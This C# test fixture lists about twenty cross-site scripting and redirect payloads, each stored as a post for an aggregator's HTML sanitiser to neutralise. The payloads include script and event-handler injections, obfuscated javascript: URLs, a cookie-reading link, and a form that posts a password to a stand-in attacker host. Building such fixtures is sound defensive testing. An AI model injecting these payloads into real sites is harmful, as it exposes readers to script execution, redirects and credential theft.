using Aggregator.Storage;

namespace Aggregator.Tests.Publishing;

/// <summary>
/// Markup that runs script, loads something or redirects the reader, one kind a case, stored as if ingestion had let
/// it through (an older release, a bug): what publishing must neutralise in every output on its own.
/// </summary>
internal static class HostileMarkup
{
    public static IReadOnlyList<(string Name, string Html)> Cases { get; } =
    [
        ("script", "<script>alert(1)</script><p>after script</p>"),
        ("script-uppercase", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>"),
        ("onerror", "<img src=\"https://example.org/a.png\" onerror=\"alert(1)\">"),
        ("onclick", "<p onclick=\"alert(1)\" onmouseover='alert(2)'>click</p>"),
        ("href-javascript", "<a href=\"javascript:alert(1)\">x</a>"),
        ("href-javascript-obfuscated", "<a href=\" JaVaScRiPt&#58;alert(1)\">x</a><a href=\"java&#x09;script:alert(1)\">y</a>"),
        ("href-data", "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>"),
        ("src-data", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
        ("src-javascript", "<img src=\"javascript:alert(1)\">"),
        ("srcset", "<img src=\"https://example.org/a.png\" srcset=\"javascript:alert(1) 1x, data:image/png;base64,AAAA 2x\">"),
        ("svg-onload", "<svg onload=\"alert(1)\"><circle r=\"4\"/></svg>"),
        ("iframe", "<iframe src=\"https://evil.example/\"></iframe>"),
        ("object", "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">"),
        ("style-expression", "<style>p{width:expression(alert(1))}</style><p style=\"width:expression(alert(1))\">w</p>"),
        ("style-url-javascript", "<style>body{background:url(javascript:alert(1))}</style><div style=\"background:url(javascript:alert(1))\">d</div>"),
        ("base", "<base href=\"https://evil.example/\"><a href=\"/relative\">r</a>"),
        ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"),
        ("form", "<form action=\"https://evil.example/steal\"><input name=\"password\"><button formaction=\"javascript:alert(1)\">go</button></form>"),
        ("link-stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"),
        ("math-xlink", "<math><maction xlink:href=\"javascript:alert(1)\">m</maction></math>"),
    ];

    /// <summary>One stored post per case, its id the case name; its link is hostile too.</summary>
    public static List<Post> Posts() =>
        Cases.Select((c, i) => FeedFixtures.EnglishPost("hostile-" + c.Name, FeedFixtures.Base.AddMinutes(-i), title: "Case " + c.Name) with
        {
            ContentHtml = "<p>before</p>" + c.Html + "<p>end</p>",
            Link = i % 2 == 0 ? "javascript:alert(document.cookie)" : "data:text/html,<script>alert(1)</script>",
        }).ToList();
}
